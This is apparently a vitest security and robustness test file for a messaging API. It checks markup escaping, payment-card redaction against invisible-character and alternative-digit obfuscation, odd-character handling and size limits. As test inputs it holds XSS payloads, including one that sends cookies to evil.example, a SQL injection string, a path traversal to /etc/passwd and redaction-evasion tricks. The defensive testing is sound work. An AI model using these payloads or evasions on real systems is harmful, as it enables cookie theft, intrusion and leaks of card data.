import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { gatherCast, newId, type Cast, type Person, type Stranger } from './cast.ts'
import { openHouse, type House } from './house.ts'

let house: House
let cast: Cast

beforeAll(async () => {
  house = await openHouse()
  cast = await gatherCast(house.deps)
})

afterAll(() => house.close())

const digits = '4242'.repeat(4)

/** A visitor starts a conversation with this text; what came of it, as a teammate sees it. */
async function write(text: string, who: Stranger = cast.vic) {
  const id = newId('conversation')
  const received = await house.ask(who, 'POST', '/v1/messenger/conversations', {
    id,
    part: { id: newId('part'), text },
  })
  const parts = received.status < 400 ? await house.ask(cast.ben, 'GET', `/v1/conversations/${id}/parts`) : undefined
  return {
    id,
    status: received.status,
    stored: (parts?.body as { items: { body: { text: string; seals: { kind: string }[] } }[] } | undefined)?.items[0]
      ?.body,
  }
}

async function field(
  who: Person,
  method: string,
  path: string,
  body: object,
  read: (answer: never) => unknown,
): Promise<unknown> {
  const answer = await house.ask(who, method, path, body)
  expect({ path, status: answer.status }).toEqual({ path, status: expect.toBeOneOf([200, 201]) })
  expect(answer.headers['content-type']).toMatch(/^application\/json/)
  expect(answer.headers['x-content-type-options']).toBe('nosniff')
  return read(answer.body as never)
}

describe('markup in any field comes back as the very same text, as JSON', () => {
  const markups = [
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    '<svg/onload=alert(1)>&lt;b&gt;</svg>',
    '"><iframe srcdoc="<script>parent.alert(1)</script>">',
    "javascript:alert('1')//{{constructor.constructor('alert(1)')()}}${alert(1)}",
    '</script><!-- ]]> --> \u2028 \u2029 end',
  ]

  test.each(markups)('%s', async (markup) => {
    const { id, stored } = await write(markup)
    expect(stored).toEqual({ text: markup, seals: [] })
    type Named = { name: { text: string } }
    const short = markup.slice(0, 60)
    const said = [
      await field(
        cast.ben,
        'POST',
        `/v1/conversations/${id}/parts`,
        { id: newId('part'), kind: 'note', text: markup },
        (a: { part: { body: { text: string } } }) => a.part.body.text,
      ),
      await field(
        cast.ben,
        'PATCH',
        `/v1/conversations/${id}`,
        { title: markup },
        (a: { title: { text: string } }) => a.title.text,
      ),
      await field(
        cast.ada,
        'POST',
        '/v1/macros',
        { id: newId('macro'), name: short, body: markup },
        (a: { body: { text: string } }) => a.body.text,
      ),
      await field(cast.ada, 'POST', '/v1/contacts', { id: newId('contact'), name: markup }, (a: Named) => a.name.text),
      await field(
        cast.ada,
        'POST',
        '/v1/contacts',
        { id: newId('contact'), attributes: { page: markup } },
        (a: { attributes: { page: { text: string } } }) => a.attributes.page.text,
      ),
    ]
    expect(new Set(said)).toEqual(new Set([markup.trim()]))
    expect(
      await field(cast.ada, 'POST', '/v1/tags', { id: newId('tag'), name: short }, (a: Named) => a.name.text),
    ).toBe(short.trim())
    // Names that the log shows may have no line ends.
    const line = short.replaceAll(/[\u2028\u2029]/g, '').trim()
    for (const path of ['/v1/profile', '/v1/workspace'])
      expect(await field(cast.ada, 'PATCH', path, { name: line }, (a: { name: string }) => a.name)).toBe(line)
  })
})

describe('a card is found where a person would read one', () => {
  const between: [name: string, sign: string][] = [
    ['zero-width joiners', '\u200d'],
    ['zero-width spaces', '\u200b'],
    ['word joiners', '\u2060'],
    ['byte order marks', '\ufeff'],
    ['soft hyphens', '\u00ad'],
    ['variation selectors', '\ufe0f'],
    ['right-to-left marks', '\u200f'],
    ['bidi isolates', '\u2068\u2069'],
    ['NULs', '\u0000'],
    ['thin spaces', '\u2009'],
    ['figure dashes', '\u2012'],
  ]

  test.each(between)('with %s between its digits', async (_name, sign) => {
    const { status, stored } = await write(`my card ${[...digits].join(sign)} please`)
    expect(status).toBe(201)
    expect(stored?.seals.map((seal) => seal.kind)).toEqual(['payment-card'])
    expect(stored?.text.replace(/[^\d]/g, '')).toBe('4242')
  })

  test.each([
    ['full-width digits', 0xff10],
    ['Arabic-Indic digits', 0x0660],
    ['Devanagari digits', 0x0966],
    ['mathematical bold digits', 0x1d7ce],
  ])('in %s', async (_name, zero) => {
    const { stored } = await write(
      `my card ${[...digits].map((c) => String.fromCodePoint(zero + Number(c))).join('')} please`,
    )
    expect(stored?.seals.map((seal) => seal.kind)).toEqual(['payment-card'])
  })

  test('in a right-to-left override, which changes how the rest is drawn', async () => {
    const { stored } = await write(`\u202e nevig ${digits} \u202c`)
    expect(stored?.seals.map((seal) => seal.kind)).toEqual(['payment-card'])
  })

  test('between lone surrogates', async () => {
    const { stored } = await write(`\ud800 my card ${digits} \udfff`)
    expect(stored?.seals.map((seal) => seal.kind)).toEqual(['payment-card'])
  })

  test('in markup', async () => {
    const { stored } = await write(`<b data-card="${digits}">hello</b>`)
    expect(stored?.text).toBe('<b data-card="[payment card •••• 4242]">hello</b>')
  })

  test('behind ten thousand at-signs', async () => {
    const { stored } = await write(`${'@'.repeat(10_000)} card ${digits}`)
    expect(stored?.seals.map((seal) => seal.kind)).toEqual(['payment-card'])
  })
})

describe('odd characters are kept, and nothing breaks', () => {
  test.each([
    ['a NUL', 'before\u0000after'],
    ['lone surrogates', 'high \ud83d low \ude00 end'],
    ['bidi controls', '\u202e\u2066abc\u2069\u202c'],
    ['a thousand combining marks', `e${'\u0301'.repeat(1_000)}`],
    ['an emoji of many', '👩‍👩‍👧‍👦 👍🏽'],
  ])('%s', async (_name, text) => {
    const { status, stored } = await write(text)
    expect(status).toBe(201)
    expect(stored?.text).toBe(text)
  })

  test('a message of invisible characters alone is answered', async () => {
    expect((await write('\u200b\u200d\u2060')).status).toBeOneOf([201, 400])
  })

  test.each(['\u0000', '\ud800', '\u202e', '%00', '\u200d'.repeat(400), "' or 1=1 --"])(
    'a search for odd characters (%j) is answered',
    async (query) => {
      expect((await house.ask(cast.ben, 'POST', '/v1/searches', { query })).status).toBeOneOf([200, 400])
    },
  )

  test.each([
    '/v1/activity?action=%00',
    '/v1/activity?actor=%00',
    '/v1/activity?object=%ED%A0%80',
    '/v1/activity?cursor=%00',
    '/v1/conversations?cursor=%00',
    '/v1/contacts?email=%00',
    '/v1/contacts?externalId=%00&cursor=%00',
    '/v1/search?query=%00',
    '/v1/conversations/%00',
    '/v1/contacts/..%2f..%2fetc%2fpasswd',
  ])('an address with odd characters (%s) is answered, and not as a failure of ours', async (path) => {
    expect((await house.ask(cast.ada, 'GET', path)).status).toBeLessThan(500)
  })

  test.each(['name', 'externalId', 'email', 'phone'])(
    'a NUL and a lone surrogate in the %s of a contact are answered, and not as a failure of ours',
    async (name) => {
      for (const odd of ['a\u0000b', 'a\ud800b', 'a\u0000b@example.org']) {
        expect(
          (await house.ask(cast.ada, 'POST', '/v1/contacts', { id: newId('contact'), [name]: odd })).status,
        ).toBeLessThan(500)
      }
    },
  )
})

describe('large texts are answered', () => {
  const large: [name: string, text: string][] = [
    ['digits', '7391'.repeat(250_000)],
    ['digits with spaces', '7391 '.repeat(200_000)],
    ['at-signs', '@'.repeat(10_000)],
    ['at-signs between letters', 'a@'.repeat(400_000)],
    ['opening brackets', '['.repeat(1_000_000)],
    ['the word password', 'password '.repeat(100_000)],
    ['beginnings of a private key', '-----BEGIN '.repeat(80_000)],
    ['dots', 'a.'.repeat(400_000)],
    ['zero-width joiners', '\u200d'.repeat(300_000)],
    ['cards', `${digits} `.repeat(50_000)],
  ]

  test.each(large)('by the engine: %s', async (_name, text) => {
    const answer = await house.ask(cast.ada, 'POST', '/v1/redactions', { text })
    expect(answer.status).toBe(200)
    expect(answer.text).not.toContain(digits)
  })

  test.each(large)('by a conversation, up to its limit: %s', async (_name, text) => {
    const { status, stored } = await write(text.slice(0, 100_000))
    expect(status).toBe(201)
    expect(stored?.text).not.toContain(digits)
  })

  test.each(large)('above the limit with the documented error, and nothing is stored: %s', async (_name, text) => {
    const { id, status } = await write(text.padEnd(100_001, '.'))
    expect(status).toBe(400)
    expect((await house.ask(cast.ada, 'GET', `/v1/conversations/${id}`)).status).toBe(404)
  })

  test('above the size of a request with the error for that', async () => {
    expect((await write('x'.repeat(2_000_000))).status).toBe(413)
  })
})

test('pages of messages full of values stay below a megabyte, whichever way they are read, and hold each message once', async () => {
  const { id } = await write('the first one')
  for (let n = 0; n < 5; n++) {
    const text = `card ${digits}, `.repeat(900)
    const { status } = await house.ask(cast.vic, 'POST', `/v1/messenger/conversations/${id}/parts`, {
      id: newId('part'),
      text,
    })
    expect(status).toBe(201)
  }
  type Listed = { items: { id: string; position: number; body: { seals: unknown[] } }[]; moreFrom?: number }
  const read = async (who: Person | Stranger, range: string) => {
    const base = who === cast.vic ? '/v1/messenger/conversations' : '/v1/conversations'
    const answer = await house.ask(who, 'GET', `${base}/${id}/parts?${range}`)
    expect(answer.status).toBe(200)
    return { ...(answer.body as Listed), size: answer.text.length }
  }
  const walk = async (who: Person | Stranger, way: 'after' | 'before', from: number) => {
    const pages: Awaited<ReturnType<typeof read>>[] = []
    for (let at: number | undefined = from; at !== undefined; at = pages.at(-1)?.moreFrom)
      pages.push(await read(who, `${way}=${at}`))
    return pages
  }
  const all = [1, 2, 3, 4, 5, 6]
  const walks = [
    await walk(cast.ben, 'after', 0),
    await walk(cast.ben, 'before', 7),
    await walk(cast.vic, 'after', 0),
    await walk(cast.vic, 'before', 7),
  ]
  for (const pages of walks) {
    expect(pages.flatMap(({ items }) => items.map(({ position }) => position)).toSorted((a, b) => a - b)).toEqual(all)
    expect(pages.length).toBeGreaterThan(1)
    for (const { size } of pages) expect(size).toBeLessThan(1_000_000)
  }
  const middle = walks[0]!.flatMap(({ items }) => items)[3]!
  const around = await read(cast.ben, `around=${middle.id}&limit=6`)
  expect(around.items).toContainEqual(middle)
  expect(around.size).toBeLessThan(2_000_000)
})
